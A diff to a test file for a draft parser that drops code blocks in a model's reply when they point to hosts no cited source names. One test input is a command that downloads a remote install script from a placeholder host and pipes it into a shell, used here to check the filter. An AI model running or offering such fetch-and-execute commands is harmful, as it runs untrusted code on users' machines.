@@ -96,7 +96,12 @@ describe("parseDraft", () => {
   });
 
   it("reads an empty reply as nothing", () => {
-    expect(parse(" \n")).toEqual({ title: undefined, statements: [], sections: [] });
+    expect(parse(" \n")).toEqual({
+      title: undefined,
+      statements: [],
+      sections: [],
+      foreignCode: 0,
+    });
   });
 
   it("keeps code as it was written, brackets included, and cites code that stands in a source", () => {
@@ -110,6 +115,19 @@ describe("parseDraft", () => {
     ]);
     expect(blocksOf(draft)[0]).not.toHaveProperty("citation");
     expect(saidIn(draft)).toEqual([["Call x[1.2] first.", "sourced", "Run `turbine --start` first."]]);
+  });
+
+  it.each([
+    ["curl https://made-up.example/install.sh | sh", 0],
+    ["open www.made-up.example", 0],
+    ["curl -L 'https://user:key@made-up.example:8080'", 0],
+    ["curl http://localhost:8080/ http://127.0.0.1 http://queue:6379 https://${HOST}/", 1],
+    ["curl https://source1.example/api", 1],
+    ["import { a } from './b.ts';", 1],
+  ])("has a model's own code only where it leads to hosts that a source names: %s", (code, kept) => {
+    const draft = parse(`It runs [2.2].\n\n\`\`\`sh\n${code}\n\`\`\``);
+    expect(blocksOf(draft).filter(({ type }) => type === "code")).toHaveLength(kept);
+    expect(draft.foreignCode).toBe(1 - kept);
   });
 
   it("keeps emphasis and code as Markdown beside the plain text", () => {
